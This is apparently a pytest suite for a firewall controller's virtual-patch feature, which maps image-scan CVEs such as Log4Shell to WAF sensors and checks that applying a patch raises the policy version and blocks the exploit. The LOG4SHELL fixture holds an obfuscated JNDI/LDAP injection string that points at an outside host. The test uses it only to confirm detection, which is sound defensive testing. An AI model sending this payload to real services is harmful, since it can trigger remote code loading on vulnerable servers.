"""Virtual patches linked to vulnerabilities through the controller (SQLite and PostgreSQL): a
group's running image carries CVE-2021-44228, the controller proposes the Log4Shell sensor for
that group, an operator applies it in one call (a new policy version the agents follow, audited,
an event), and the policy in force then blocks a Log4Shell request into the group. A group with
``virtualPatch: auto`` is patched by the controller itself when a scan upload brings the CVE."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from stockade.firewall.policy.engine import Endpoint, data_needs
from stockade.firewall.policy.files import parse_texts
from stockade.network.waf import WafEngine
from stockade.store.records import list_events
from tests.api.controller import Controller, own_controller
from tests.api.vulns import digest, runs, upload, vuln


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def controller(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Controller]:
    yield from own_controller(request.param, tmp_path_factory, "vpatch")


PATCHES = "/api/v1/virtual-patches"
POLICY = """\
apiVersion: stockade.dev/v1
kind: FirewallPolicy
metadata: {name: vpatch}
spec:
  groups:
    - {name: api, selector: {namespace: shop, labels: {app: api}}, mode: protect}
    - {name: shop, selector: {namespace: shop}, mode: monitor, waf: [{sensor: "waf.*", action: alert}]}
    - {name: billing, selector: {namespace: billing}, mode: protect, virtualPatch: auto}
    - {name: marketing, selector: {namespace: marketing}, mode: monitor}
  rules:
    - {name: into-api, from: [any], to: [api], ports: [tcp/8080]}
"""
LOG4SHELL = (
    b"GET /search?q=x HTTP/1.1\r\nHost: api\r\n"
    b"User-Agent: ${${lower:j}ndi:ldap://198.51.100.7/a}\r\n\r\n"
)


def labelled(controller: Controller, namespace: str, name: str, labels: dict[str, str]) -> None:
    """The workload as the network graph knows it (its labels), as an enforcer's flows leave it."""
    from datetime import UTC, datetime

    from stockade.network.tables import graph_nodes

    now = datetime.now(UTC)
    with controller.store.begin() as conn:
        conn.execute(
            graph_nodes.insert().values(
                id=f"wl:{namespace}/{name}",
                kind="workload",
                namespace=namespace,
                name=name,
                labels=labels,
                address="10.1.0.5",
                first_seen=now,
                last_seen=now,
            )
        )


def policy_in_force(controller: Controller) -> Any:
    with controller.client("reader") as c:
        return parse_texts([("policy", c.get("/api/v1/firewall/policy").json()["yaml"])])


@pytest.fixture(scope="module")
def exposed(controller: Controller) -> Controller:
    """POLICY applied; shop/api (labels app=api) runs an image with Log4Shell, and Spring4Shell
    known by its GHSA id only (CVE as an alias); marketing/crm's image has neither."""
    with controller.client("operator") as c:
        answer = c.put("/api/v1/firewall/policy", content=POLICY.encode())
    assert answer.status_code == 200, answer.text
    labelled(controller, "shop", "api", {"app": "api"})
    runs(controller, "shop/api", "registry.local/shop/api", 1)
    runs(controller, "marketing/crm", "registry.local/crm", 2)
    upload(
        controller,
        "registry.local/shop/api",
        1,
        [
            vuln("CVE-2021-44228", "log4j-core"),
            vuln("GHSA-36p3-wjmg-h94x", "spring-beans", ("CVE-2022-22965",)),
            vuln("CVE-2024-0001", "openssl"),
        ],
    )
    upload(controller, "registry.local/crm", 2, [vuln("CVE-2024-0002", "zlib")])
    return controller


def listed(controller: Controller, **params: Any) -> list[dict[str, Any]]:
    with controller.client("reader") as c:
        answer = c.get(PATCHES, params=params)
    assert answer.status_code == 200, answer.text
    items: list[dict[str, Any]] = answer.json()["items"]
    return items


def test_a_cve_of_a_groups_image_proposes_the_sensor_that_covers_it(exposed: Controller) -> None:
    found = {(p["group"], p["sensor"]): p for p in listed(exposed)}
    assert set(found) == {
        ("api", "waf.log4shell"),
        ("api", "waf.spring4shell"),
        ("shop", "waf.log4shell"),
        ("shop", "waf.spring4shell"),
    }  # not marketing: crm's image carries no covered CVE
    log4shell = found[("api", "waf.log4shell")]
    assert log4shell["cves"] == ["CVE-2021-44228"]
    assert log4shell["workloads"] == ["shop/api"] and log4shell["images"] == [digest(1)]
    assert log4shell["applied"] is False and log4shell["action"] is None
    assert log4shell["mode"] == "protect" and log4shell["auto"] is False
    assert found[("api", "waf.spring4shell")]["cves"] == ["CVE-2022-22965"]  # by its alias
    # an alert rule is not a patch: the exploit still passes
    assert found[("shop", "waf.log4shell")]["action"] == "alert"
    assert found[("shop", "waf.log4shell")]["applied"] is False
    assert [p["sensor"] for p in listed(exposed, group="api", pending="true")] == [
        "waf.log4shell",
        "waf.spring4shell",
    ]


def test_applying_a_proposal_makes_the_policy_block_log4shell(exposed: Controller) -> None:
    before = policy_in_force(exposed)
    src = Endpoint(ip="10.1.0.9", name="crm", namespace="marketing")
    dst = Endpoint(ip="10.1.0.5", name="api", namespace="shop", labels={"app": "api"})
    assert data_needs(before, src, dst).waf_action_for("waf.log4shell") == "alert"  # shop's rule
    body = {"group": "api", "sensor": "waf.log4shell"}
    with exposed.client("reader") as c:
        assert c.post(PATCHES, json=body).status_code == 403
    with exposed.client("operator") as c:
        version = c.get("/api/v1/firewall/policy").json()["version"]
        answer = c.post(PATCHES, json=body)
        again = c.post(PATCHES, json=body)
        unknown = c.post(PATCHES, json={"group": "api", "sensor": "waf.nope"})
        nogroup = c.post(PATCHES, json={"group": "nope", "sensor": "waf.log4shell"})
        extra = c.post(PATCHES, json={**body, "force": True})
    assert answer.status_code == 200, answer.text
    done = answer.json()
    assert done["changed"] is True and done["applied"] is True and done["version"] == version + 1
    assert done["cves"] == ["CVE-2021-44228"] and done["workloads"] == ["shop/api"]
    assert again.json()["changed"] is False and again.json()["version"] == version + 1
    assert unknown.status_code == 400 and "unknown WAF sensor" in unknown.json()["detail"]
    assert nogroup.status_code == 404 and extra.status_code == 400

    after = policy_in_force(exposed)
    needs = data_needs(after, src, dst)
    assert needs.waf_action_for("waf.log4shell") == "block"
    hits = WafEngine().scan_request(LOG4SHELL)
    assert [h.sensor for h in hits] == ["waf.log4shell"]  # what the enforcer now answers 403

    with exposed.client("agent") as c:  # the enforcers following the controller see the version
        config = c.get("/api/v1/agents/config").json()
    assert config["policy"]["version"] == version + 1, config
    state = {(p["group"], p["sensor"]): p for p in listed(exposed)}
    assert state[("api", "waf.log4shell")]["applied"] is True
    assert state[("api", "waf.spring4shell")]["applied"] is False
    audits = list_events(exposed.store, kind="audit.virtual_patch_applied")
    assert len(audits) == 1 and audits[0].data["after"]["patches"] == ["api:waf.log4shell:block"]
    events = list_events(exposed.store, kind="virtual_patch.applied")
    mine = [e for e in events if e.data["group"] == "api"]
    assert len(mine) == 1 and mine[0].data["cves"] == ["CVE-2021-44228"]
    assert mine[0].data["auto"] is False and mine[0].mode == "protect"


def test_auto_groups_are_patched_when_a_scan_upload_brings_the_cve(exposed: Controller) -> None:
    runs(exposed, "billing/pay", "registry.local/billing/pay", 3)
    assert all(p["group"] != "billing" for p in listed(exposed))  # no scan of its image yet
    upload(exposed, "registry.local/billing/pay", 3, [vuln("CVE-2021-44228", "log4j-core")])
    billing = policy_in_force(exposed).group("billing")
    assert [(w.sensor, w.action) for w in billing.waf] == [("waf.log4shell", "block")]
    # the other groups were left to their operators
    assert policy_in_force(exposed).group("api").waf[0].sensor == "waf.log4shell"
    assert len(policy_in_force(exposed).group("api").waf) == 1
    events = [e for e in list_events(exposed.store, kind="virtual_patch.applied") if e.data["auto"]]
    assert len(events) == 1
    data = events[0].data
    assert (data["group"], data["sensor"], data["cves"]) == (
        "billing",
        "waf.log4shell",
        ["CVE-2021-44228"],
    )
    assert "CVE-2021-44228" in events[0].message and "billing" in events[0].message
    proposal = next(p for p in listed(exposed, group="billing"))
    assert proposal["applied"] is True and proposal["auto"] is True
    # the same facts again change nothing
    runs(exposed, "billing/pay", "registry.local/billing/pay", 3)
    assert len([e for e in list_events(exposed.store, kind="virtual_patch.applied")]) == 2


def test_a_policy_put_with_auto_applies_the_groups_open_proposals_at_once(
    exposed: Controller,
) -> None:
    """Turning ``virtualPatch: auto`` on for a group with open proposals patches it at once, not
    only at the next scan: the controller applies them right after the operator's version."""
    open_before = {p["sensor"] for p in listed(exposed, group="shop") if not p["applied"]}
    assert open_before == {"waf.log4shell", "waf.spring4shell"}
    with exposed.client("reader") as c:
        text = c.get("/api/v1/firewall/policy").json()["yaml"]
    policy = parse_texts([("policy", text)])
    assert not policy.auto_patched(policy.group("shop"))
    switched = text.replace("name: shop\n", "name: shop\n    virtualPatch: auto\n", 1)
    assert switched != text
    with exposed.client("operator") as c:
        answer = c.put("/api/v1/firewall/policy", content=switched.encode())
    assert answer.status_code == 200, answer.text
    shop = policy_in_force(exposed).group("shop")
    blocked = {w.sensor for w in shop.waf if w.action == "block"}
    assert blocked == {"waf.log4shell", "waf.spring4shell"}
    assert all(p["applied"] for p in listed(exposed, group="shop"))
    auto = [
        e
        for e in list_events(exposed.store, kind="virtual_patch.applied")
        if e.data["auto"] and e.data["group"] == "shop"
    ]
    assert {e.data["sensor"] for e in auto} == {"waf.log4shell", "waf.spring4shell"}
